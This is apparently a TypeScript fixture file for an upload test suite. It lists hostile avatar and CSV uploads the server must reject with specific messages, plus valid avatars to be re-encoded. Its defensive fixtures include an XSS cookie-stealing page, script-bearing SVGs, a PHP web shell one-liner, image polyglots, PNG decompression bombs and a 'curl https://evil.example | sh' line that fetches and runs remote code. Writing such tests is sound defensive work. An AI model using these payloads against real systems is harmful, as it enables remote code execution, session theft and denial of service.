/**
 * What the uploads suite sends: every hostile file with the status and the message a reader
 * must get back (so the refusal is clear, not merely a 4xx), and the good avatars that must be
 * stored re-encoded.
 */
import { avatarLimits } from '../../contracts/constants.js';
import { maxImportFileBytes } from '../../contracts/shelf-imports.js';
import {
  image,
  jpegWithGps,
  pngBomb,
  pngDeclaring,
  pngOfExactly,
  samsungTrailer,
  zipArchive,
} from './upload-fixtures.js';

export type Route = 'avatar' | 'import';

/** The upload routes, with the form field each one reads. */
export const routes: Record<Route, { url: string; field: string }> = {
  avatar: { url: '/api/profiles/me/avatar', field: 'avatar' },
  import: { url: '/api/shelves/me/imports', field: 'file' },
};

export interface UploadCase {
  name: string;
  route: Route;
  body: () => Promise<Buffer> | Buffer;
  filename: string;
  type: string;
  /** The status and what the message must say, so the reader knows what to do. */
  status: number;
  says: RegExp;
}

export const hostilePage = '<html><body><script>alert(document.cookie)</script></body></html>';
const svgWithScript =
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>alert(2)</script><rect width="10" height="10"/></svg>';
const text = (value: string) => Buffer.from(value);
const half = (data: Buffer) => data.subarray(0, Math.floor(data.length / 2));
const jar = () => zipArchive('META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\nMain-Class: Evil\n');
const glued = async (first: Promise<Buffer>, second: Buffer) =>
  Buffer.concat([await first, second]);
const header = 'Title,Author,ISBN13,Exclusive Shelf\n';

const notAnImage = /Please choose a JPEG, PNG, WebP, GIF or AVIF image/;
const polyglot = /something more than a picture in it/;
const damaged = /incomplete or damaged/;
const tooManyPixels = /too large: choose one of at most 40 megapixels/;
const tooLarge = /too large/;
const notUtf8 = /it must be UTF-8 text/;
const notAnExport = /Goodreads or StoryGraph/;

function avatar(
  name: string,
  body: UploadCase['body'],
  status: number,
  says: RegExp,
  filename = 'me.png',
  type = 'image/png',
): UploadCase {
  return { name, route: 'avatar', body, filename, type, status, says };
}

function csvImport(
  name: string,
  body: UploadCase['body'],
  status: number,
  says: RegExp,
): UploadCase {
  return { name, route: 'import', body, filename: 'export.csv', type: 'text/csv', status, says };
}

export const badUploads: UploadCase[] = [
  // Renamed scripts and pages.
  avatar('JavaScript named .png', () => text('alert(document.cookie)'), 415, notAnImage),
  avatar('HTML sent as image/png', () => text(hostilePage), 415, notAnImage),
  avatar('PHP named .php.png', () => text('<?php system($_GET["c"]); ?>'), 415, notAnImage),
  // SVG can carry script.
  avatar(
    'SVG with script as image/svg+xml',
    () => text(svgWithScript),
    415,
    notAnImage,
    'me.svg',
    'image/svg+xml',
  ),
  avatar('SVG with script named .png', () => text(svgWithScript), 415, notAnImage),
  // Polyglots: a valid image with another document glued on.
  avatar('PNG with HTML appended', () => glued(image('png'), text(hostilePage)), 415, polyglot),
  avatar(
    'JPEG with a script appended',
    () => glued(image('jpeg'), text('<script>alert(1)</script>')),
    415,
    polyglot,
    'me.jpg',
    'image/jpeg',
  ),
  avatar('JPEG + ZIP', () => glued(image('jpeg'), jar()), 415, polyglot, 'me.jpg', 'image/jpeg'),
  avatar(
    'GIFAR (GIF + JAR)',
    () => glued(image('gif'), jar()),
    415,
    polyglot,
    'me.gif',
    'image/gif',
  ),
  avatar(
    'WebP with JavaScript appended',
    () => glued(image('webp'), text('alert(1)')),
    415,
    polyglot,
    'me.webp',
    'image/webp',
  ),
  // Broken and unsupported images.
  avatar('truncated PNG', async () => half(await image('png')), 415, damaged),
  avatar(
    'truncated JPEG',
    async () => half(await image('jpeg')),
    415,
    damaged,
    'me.jpg',
    'image/jpeg',
  ),
  avatar(
    'truncated GIF',
    async () => half(await image('gif')),
    415,
    damaged,
    'me.gif',
    'image/gif',
  ),
  avatar(
    'a TIFF (a real image, not a format we take)',
    () => image('tiff'),
    415,
    notAnImage,
    'me.tiff',
    'image/tiff',
  ),
  avatar('an empty file', () => Buffer.alloc(0), 415, notAnImage),
  // Pixel bombs: small files, enormous pictures.
  avatar(
    'PNG declaring 50,000 × 50,000 px',
    () => pngDeclaring(50_000, 50_000),
    413,
    tooManyPixels,
  ),
  avatar('PNG bomb inflating to 64 MB (8,000 × 8,000)', () => pngBomb(8_000), 413, tooManyPixels),
  // One byte over the limit.
  avatar(
    'avatar of 5 MB + 1 byte',
    () =>
      glued(image('jpeg'), Buffer.alloc(avatarLimits.maxBytes)).then((b) =>
        b.subarray(0, avatarLimits.maxBytes + 1),
      ),
    413,
    tooLarge,
    'me.jpg',
    'image/jpeg',
  ),
  // Binary and other files as a CSV export.
  csvImport('PNG named .csv', () => image('png'), 415, notUtf8),
  csvImport(
    'ZIP (an .xlsx) named .csv',
    () => zipArchive('xl/workbook.xml', '<workbook/>'),
    415,
    notUtf8,
  ),
  csvImport(
    'UTF-16 CSV',
    () => Buffer.from(`\ufeff${header}Dune,Frank Herbert,,read\n`, 'utf16le'),
    415,
    notUtf8,
  ),
  csvImport(
    'Latin-1 bytes (not UTF-8)',
    () => Buffer.from(`${header}Les Misérables,Victor Hugo,,read\n`, 'latin1'),
    415,
    notUtf8,
  ),
  csvImport('an HTML page named .csv', () => text(hostilePage), 400, notAnExport),
  csvImport(
    'a shell script named .csv',
    () => text('#!/bin/sh\ncurl https://evil.example | sh\n'),
    400,
    notAnExport,
  ),
  csvImport('an empty CSV', () => Buffer.alloc(0), 400, /The file is empty/),
  csvImport(
    'export of 10 MB + 1 byte',
    () =>
      glued(
        Promise.resolve(text(header)),
        Buffer.alloc(maxImportFileBytes + 1 - header.length, 'a'),
      ),
    413,
    tooLarge,
  ),
];

/** Good avatars: accepted and stored re-encoded, with none of their own bytes or metadata. */
export const goodAvatars: {
  name: string;
  body: () => Promise<Buffer>;
  filename: string;
  type: string;
}[] = [
  { name: 'a PNG', body: () => image('png', 640, 400), filename: 'me.png', type: 'image/png' },
  {
    name: 'a JPEG with a GPS position in its EXIF',
    body: jpegWithGps,
    filename: 'holiday.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'a JPEG with a phone maker’s trailer',
    body: () => glued(jpegWithGps(), samsungTrailer()),
    filename: 'phone.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'a GIF named notes.txt',
    body: () => image('gif'),
    filename: 'notes.txt',
    type: 'text/plain',
  },
  {
    name: 'a PNG of exactly 5 MB (a comment chunk with HTML in it)',
    body: () => pngOfExactly(avatarLimits.maxBytes, hostilePage),
    filename: 'big.png',
    type: 'image/png',
  },
];
